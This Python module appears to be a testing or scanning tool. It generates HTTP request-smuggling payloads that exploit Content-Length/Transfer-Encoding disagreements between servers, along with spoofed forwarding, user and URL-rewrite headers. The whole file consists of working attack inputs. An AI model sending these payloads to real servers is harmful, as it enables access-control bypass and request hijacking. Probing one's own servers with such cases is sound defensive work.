"""Requests that two servers in a row may understand differently, and headers that claim to be somebody else."""

from __future__ import annotations

from rawhttp import format_request

Headers = list[tuple[str, str]]

# What a proxy may add, and what a program behind it may believe; the address is that of the host itself.
FORWARDED: dict[str, Headers] = {
    "none": [],
    "x-forwarded-for": [("X-Forwarded-For", "127.0.0.1")],
    "x-forwarded-for-list": [("X-Forwarded-For", "127.0.0.1, 127.0.0.1")],
    "x-forwarded-for-twice": [("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-For", "127.0.0.1")],
    "x-real-ip": [("X-Real-IP", "127.0.0.1")],
    "forwarded": [("Forwarded", "for=127.0.0.1;host=localhost;proto=https")],
    "true-client-ip": [("True-Client-IP", "127.0.0.1"), ("CF-Connecting-IP", "127.0.0.1")],
    "x-forwarded-host": [("X-Forwarded-Host", "localhost"), ("X-Forwarded-Port", "1"), ("X-Forwarded-Proto", "https")],
    "x-forwarded-prefix": [("X-Forwarded-Prefix", "/health"), ("X-Script-Name", "/health")],
    "x-forwarded-user": [("X-Forwarded-User", "admin"), ("Remote-User", "admin"), ("X-Auth-Request-User", "admin")],
    "underscores": [("X_Forwarded_For", "127.0.0.1"), ("X_Real_IP", "127.0.0.1")],
}


def list_rewriting_headers(hidden: str) -> dict[str, Headers]:
    """Return headers with which some programs let a client name another path or method than the proxy has seen."""
    return {
        "x-original-url": [("X-Original-URL", hidden)],
        "x-rewrite-url": [("X-Rewrite-URL", hidden)],
        "x-original-uri": [("X-Original-URI", hidden)],
        "x-forwarded-uri": [("X-Forwarded-Uri", hidden)],
        "x-http-method-override": [("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE")],
    }


def list_smuggling_requests(usual: Headers, path: str, hidden: str) -> dict[str, tuple[bytes, int]]:
    """Return bytes by name, and how many answers an honest server gives at most; ``usual`` are host and key.

    Each carries a request for ``hidden`` where only one of two servers would see one. More answers than that, or one
    that only ``hidden`` gives, means that it got through.
    """
    inner = format_request("GET", hidden, usual)
    # For a server that believes Transfer-Encoding the body ends before `inner`.
    chunked = b"0\r\n\r\n" + inner
    length = ("Content-Length", str(len(chunked)))
    coded = ("Transfer-Encoding", "chunked")

    def post(*headers: tuple[str, str], body: bytes = chunked) -> bytes:
        return format_request("POST", path, [*usual, ("Content-Type", "application/json"), *headers], body)

    return {
        "both": (post(length, coded), 1),
        "both-other-order": (post(coded, length), 1),
        # For a server that believes Content-Length the body ends before `inner`.
        "short-length": (post(("Content-Length", "4"), coded, body=b"ff\r\n" + inner + b"0\r\n\r\n"), 1),
        "lengths-that-differ": (post(("Content-Length", "0"), ("Content-Length", str(len(inner))), body=inner), 1),
        "lengths-in-a-list": (post(("Content-Length", f"0, {len(inner)}"), body=inner), 1),
        "length-twice-the-same": (post(("Content-Length", "2"), ("Content-Length", "2"), body=b"{}"), 1),
        "length-with-a-sign": (post(("Content-Length", f"+{len(chunked)}")), 1),
        "length-in-hexadecimal": (post(("Content-Length", f"0x{len(chunked):x}")), 1),
        "space-before-the-colon": (post(length, ("Transfer-Encoding ", "chunked")), 1),
        "tab-in-the-value": (post(length, ("Transfer-Encoding", "\tchunked")), 1),
        "vertical-tab-in-the-value": (post(length, ("Transfer-Encoding", "\x0bchunked")), 1),
        "another-word": (post(length, ("Transfer-Encoding", "xchunked")), 1),
        "two-words": (post(length, ("Transfer-Encoding", "identity, chunked")), 1),
        "coded-twice": (post(length, coded, ("Transfer-Encoding", "identity")), 1),
        "line-feed-in-a-header": (post(length, ("X-Nothing", "x\nTransfer-Encoding: chunked")), 1),
        "bare-line-feeds": (post(length, coded).replace(b"\r\n", b"\n"), 1),
        "chunk-with-bare-line-feed": (post(coded, body=b"0\n\n" + inner), 1),
        "size-beyond-all-numbers": (post(coded, body=b"10000000000000000\r\n" + inner), 1),
        "get-with-a-body": (format_request("GET", path, [*usual, ("Content-Length", str(len(inner)))], inner), 1),
        "http-0.9": (f"GET {hidden}\r\n".encode(), 1),
        "http-1.0-coded": (post(coded).replace(b"HTTP/1.1", b"HTTP/1.0", 1), 1),
        # Nothing is wrong with it: two requests, two answers, each judged by its own path.
        "pipelined": (format_request("GET", path, usual) + inner, 2),
    }
